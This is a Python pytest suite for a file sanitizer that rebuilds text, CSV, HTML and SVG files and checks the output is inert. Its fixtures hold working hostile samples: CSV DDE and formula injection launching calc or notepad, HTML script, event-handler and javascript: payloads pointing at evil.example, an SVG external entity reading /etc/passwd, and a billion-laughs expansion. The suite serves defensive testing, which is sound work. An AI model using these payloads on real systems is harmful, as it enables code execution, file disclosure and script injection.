"""Text, CSV, HTML and SVG (CDR.md "Text, CSV, HTML, SVG"): hostile fixtures built here,
outputs re-parsed by real parsers (csv, lxml) and by the module's own verify."""

from __future__ import annotations

import csv
import io
import re

import lxml.html
import pytest
from hypothesis import given, settings, strategies as st
from lxml import etree

from sanitize.config import SanitizeConfig
from sanitize.formats import Context, text
from sanitize.report import Blocked, Rebuilt, VerifyFailed

CTX = Context(SanitizeConfig())
BOM = b"\xef\xbb\xbf"


def disarm(data: bytes, kind: str) -> Rebuilt:
    out = text.rebuild(data, kind, CTX)
    text.verify(out.data, out.kind, CTX)
    return out


def codes(out: Rebuilt) -> set[str]:
    return {r.code for r in out.removed}


def blocked(data: bytes, kind: str) -> str:
    with pytest.raises(Blocked) as err:
        text.rebuild(data, kind, CTX)
    return err.value.reason


# --- plain text --------------------------------------------------------------------------

@pytest.mark.parametrize("data", [
    b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 4,  # an executable named .txt
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00",  # PE header
    bytes(range(1, 32)) * 20,  # control-character soup without NULs
])
def test_binary_data_named_txt_is_blocked(data: bytes) -> None:
    assert blocked(data, "text") in ("unknown_kind", "corrupt")


def test_bytes_that_are_no_known_encoding_are_blocked() -> None:
    assert blocked(b"\x81\x39\xff\xfe abc \x85\x20", "text") == "corrupt"


@pytest.mark.parametrize("data", [
    "架け橋の議事録\r\n第二行\r\n".encode("cp932"),
    "架け橋の議事録\r\n第二行\r\n".encode("utf-16"),  # with BOM
    BOM + "架け橋の議事録\r\n第二行\r\n".encode(),
])
def test_japanese_text_is_decoded_to_utf8_with_bom(data: bytes) -> None:
    out = disarm(data, "text")
    assert out.kind == "text"
    assert out.data == BOM + "架け橋の議事録\r\n第二行\r\n".encode()


def test_plain_utf8_stays_without_bom_and_newlines_are_made_uniform() -> None:
    out = disarm("一\n二\r\n三\r四\n五\n".encode(), "text")
    assert out.data == "一\n二\n三\n四\n五\n".encode() and out.removed == ()


def test_terminal_escapes_and_bidi_overrides_are_removed() -> None:
    out = disarm("ok\x1b[31mred\x1b]0;title\x07 invoice_\u202egpj.exe\n".encode(), "text")
    assert {"text.control_chars", "text.bidi_control"} <= codes(out)
    assert out.data == "ok[31mred]0;title invoice_gpj.exe\n".encode()


# --- CSV ---------------------------------------------------------------------------------

HOSTILE_CSV = (
    "name,phone,amount,note\r\n"
    "=cmd|'/c calc'!A0,+81,-12,ok\r\n"
    "+1+cmd|' /C notepad'!'A1',-12.5,@SUM(A1:A2),\"-2+3\"\r\n"
    "\tTAB,1,234,-\r\n"
    "\"a\tb,x\",\"=HYPERLINK(\"\"http://evil\"\",\"\"x\"\")\",+81-3-1234-5678,plain\r\n"
)


def read_csv(out: Rebuilt, delimiter: str = ",") -> list[list[str]]:
    assert out.data.startswith(BOM)  # Japanese Excel needs it to read UTF-8
    return list(csv.reader(io.StringIO(out.data[3:].decode(), newline=""), delimiter=delimiter))


def test_csv_formulas_defused_and_numbers_kept() -> None:
    out = disarm(HOSTILE_CSV.encode(), "csv")
    rows = read_csv(out)
    assert rows[0] == ["name", "phone", "amount", "note"]
    assert rows[1] == ["'=cmd｜'/c calc'!A0", "+81", "-12", "ok"]
    assert rows[2][0].startswith("'+1+cmd") and "|" not in rows[2][0]
    assert rows[2][1:] == ["-12.5", "'@SUM(A1:A2)", "'-2+3"]
    assert rows[3] == ["'\tTAB", "1", "234", "-"]
    assert rows[4][1].startswith("'=HYPERLINK(") and rows[4][2] == "'+81-3-1234-5678"
    assert rows[4][0] == "a\tb,x"  # quoted for our delimiter: stays one cell
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t")) or cell in ("+81",)
    found = {(r.code, r.detail) for r in out.removed}
    assert {("csv.dde", "A2"), ("csv.dde", "A3"), ("csv.formula", "C3"),
            ("csv.formula", "D3"), ("csv.formula", "A4"), ("csv.formula", "B5")} <= found
    assert b"\r\n" in out.data  # the input's line ends


def test_cp932_csv_is_decoded() -> None:
    data = "氏名,住所\r\n山田太郎,東京都千代田区\r\n".encode("cp932")
    rows = read_csv(disarm(data, "csv"))
    assert rows == [["氏名", "住所"], ["山田太郎", "東京都千代田区"]]


def test_tab_delimiter_kept_and_comma_split_formula_defused() -> None:
    # A TSV named .csv: Excel splits on commas, so "x,=1+1" would start a cell there.
    data = b"a\tb\tc\nx,=1+1\t-3\t=2\n"
    out = disarm(data, "csv")
    assert read_csv(out, "\t") == [["a", "b", "c"], ["x,'=1+1", "-3", "'=2"]]
    for row in read_csv(out, ","):
        assert not any(cell.startswith("=") for cell in row)


# What a spreadsheet could run: a cell that starts a formula and names something
# (a function, a reference, a DDE link) -- "=1+1" or a lone "-" are not a threat.
ACTIVE = re.compile(r"[=+\-@].*[A-Za-z(|]", re.S)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.lists(st.text(alphabet=st.sampled_from(list("=+-@|!\t\r\n,;\"'a1. 漢(")),
                                 max_size=8), min_size=1, max_size=4), min_size=1, max_size=5))
def test_csv_output_starts_no_formula_whichever_delimiter_a_spreadsheet_picks(
        rows: list[list[str]]) -> None:
    # A CSV opened in a ';' locale or as a TSV splits where we did not, and our quotes
    # mean nothing there: the rebuilt file must be inert under every reading.
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    try:
        out = disarm(buf.getvalue().encode(), "csv")
    except Blocked:
        return  # refusing is allowed; any other exception is not
    for delimiter in (",", ";", "\t"):
        others = "".join(s for s in (",", ";", "\t") if s != delimiter)
        for row in read_csv(out, delimiter):
            for cell in row:
                # Leading whitespace is trimmed by some; the cell ends, for a reader
                # splitting on another separator, at that separator or line break.
                head = re.split(f"[{others}\n]", cell.lstrip("\t\r\n"))[0]
                assert not ACTIVE.match(head), (delimiter, cell)


# --- HTML --------------------------------------------------------------------------------

HOSTILE_HTML = """<!DOCTYPE html><html lang="ja"><head>
<meta http-equiv="refresh" content="0;url=http://evil.example/">
<base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/a.css">
<title>議事録</title><script>alert(1)</script><style>body{background:url(http://x)}</style>
</head><body onload="steal()">
<h1 style="width:expression(alert(1))">お知らせ</h1>
<p>Hello <b>bold</b><img src="http://evil.example/track.gif" onerror="alert(2)" alt="[logo]"></p>
<a href="javascript:alert(3)">js</a> <a href="  JaVa&#x09;ScRiPt:alert(4)">js2</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">data</a> <a href="vbscript:msgbox(1)">vbs</a>
<a href="https://www.city.example.lg.jp/">city</a> <a href="mailto:info@example.jp">mail</a>
<a href="#top">top</a><iframe src="http://evil.example/"></iframe>
<object data="x.swf"><embed src="x.swf"></object>
<form action="http://evil.example/login"><input type="password" name="pw"></form>
<!--[if IE]><script>alert(5)</script><![endif]-->
<svg><script>alert(6)</script></svg><math><mi>x</mi></math>
<table border="1"><tr><td colspan="2">cell</td></tr></table>
</body></html>"""


def test_html_allow_list_keeps_content_and_drops_active_parts() -> None:
    data = HOSTILE_HTML.replace("<head>", '<head><meta charset="Shift_JIS">').encode("cp932")
    out = disarm(data, "html")
    html = out.data.decode()
    for bad in ("<script", "alert", "onload", "onerror", "expression", "javascript",
                "vbscript", "data:", "<iframe", "<object", "<embed", "<form", "<input",
                "evil.example", "<base", "<link", "refresh", "<svg", "<math", "<!--", "<img"):
        assert bad not in html.lower(), bad
    doc = lxml.html.document_fromstring(html)
    hrefs = [a.get("href") for a in doc.iter("a") if a.get("href")]
    assert hrefs == ["https://www.city.example.lg.jp/", "mailto:info@example.jp", "#top"]
    assert doc.findtext(".//title") == "議事録" and doc.findtext(".//h1") == "お知らせ"
    assert doc.find(".//td").get("colspan") == "2" and "[logo]" in doc.find(".//p").text_content()
    assert doc.get("lang") == "ja"
    assert {"html.script", "html.event_handler", "html.url", "html.element", "html.comment",
            "html.external_image", "html.style"} <= codes(out)


def test_html_verify_rejects_script_and_handlers() -> None:
    for bad in (b"<html><body><script>x</script></body></html>",
                b"<html><body><p onclick='x()'>a</p></body></html>",
                b"<html><body><a href='javascript:x'>a</a></body></html>"):
        with pytest.raises(VerifyFailed):
            text.verify(bad, "html", CTX)


# --- SVG ---------------------------------------------------------------------------------

LAUGHS = "".join(f'<!ENTITY l{i} "{("&l%d;" % (i - 1)) * 10}">' for i in range(1, 10))

HOSTILE_SVG = """<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE svg [<!ENTITY small "hahaha"><!ENTITY passwd SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="100" height="50" viewBox="0 0 100 50" onload="alert(1)">
  <script type="text/javascript">alert(2)</script>
  <defs><linearGradient id="g"><stop offset="0" stop-color="#f00"/></linearGradient></defs>
  <rect x="1" y="1" width="10" height="10" fill="url(#g)" onclick="alert(3)"/>
  <circle cx="5" cy="5" r="4" style="fill:url(http://evil.example/x.svg#p)"/>
  <image xlink:href="http://evil.example/track.png" width="1" height="1"/>
  <use xlink:href="http://evil.example/sprite.svg#icon"/><use href="#g"/>
  <a xlink:href="javascript:alert(4)"><text x="1" y="20">link text</text></a>
  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">
    <iframe src="http://evil.example/"/></div></foreignObject>
  <animate attributeName="href" to="javascript:alert(5)"/>
  <set attributeName="onmouseover" to="alert(6)"/>
  <text x="1" y="40">&small;&passwd;議事録</text>
  <style>@import url(http://evil.example/a.css);</style>
  <style>.a { fill: red }</style>
</svg>""".encode()


def test_svg_allow_list_and_no_entity_expansion() -> None:
    out = disarm(HOSTILE_SVG, "svg")
    svg = out.data.decode()
    assert len(out.data) < 2000  # nothing was expanded
    for bad in ("script", "alert", "onload", "onclick", "evil.example", "foreignObject",
                "iframe", "<image", "animate", "<set", "hahaha", "root:", "@import",
                "ENTITY", "DOCTYPE"):
        assert bad not in svg, bad
    root = etree.fromstring(out.data)
    ns = {"s": "http://www.w3.org/2000/svg"}
    assert root.get("viewBox") == "0 0 100 50"
    assert root.find("s:rect", ns).get("fill") == "url(#g)"
    assert [t.text for t in root.iterfind(".//s:text", ns)] == ["link text", "議事録"]
    assert root.find("s:use[@href='#g']", ns) is not None
    assert root.find("s:style", ns).text.strip() == ".a { fill: red }"
    assert {"svg.script", "svg.event_handler", "svg.external_href", "svg.foreign_object",
            "svg.entity", "svg.style", "svg.element"} <= codes(out)


@pytest.mark.parametrize("body", ['<text>&l9;</text>', '<g id="&l9;"/>'])
def test_billion_laughs_is_blocked_not_expanded(body: str) -> None:
    data = (f'<!DOCTYPE svg [<!ENTITY l0 "ha">{LAUGHS}]>'
            f'<svg xmlns="http://www.w3.org/2000/svg">{body}</svg>').encode()
    assert blocked(data, "svg") == "corrupt"  # libxml2's amplification limit, no expansion


def test_svg_verify_rejects_script_and_external_href() -> None:
    for bad in ('<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>',
                '<svg xmlns="http://www.w3.org/2000/svg" onload="x"/>',
                '<svg xmlns="http://www.w3.org/2000/svg" xmlns:l="http://www.w3.org/1999/xlink">'
                '<use l:href="http://e/x#a"/></svg>'):
        with pytest.raises(VerifyFailed):
            text.verify(bad.encode(), "svg", CTX)


def test_non_svg_root_is_refused() -> None:
    assert blocked(b'<html xmlns="http://www.w3.org/1999/xhtml"/>', "svg") == "corrupt"


# --- XML -----------------------------------------------------------------------------------

def test_generic_xml_is_unsupported() -> None:
    assert blocked(b'<?xml version="1.0"?><root><a>1</a></root>', "xml") == "unsupported_kind"
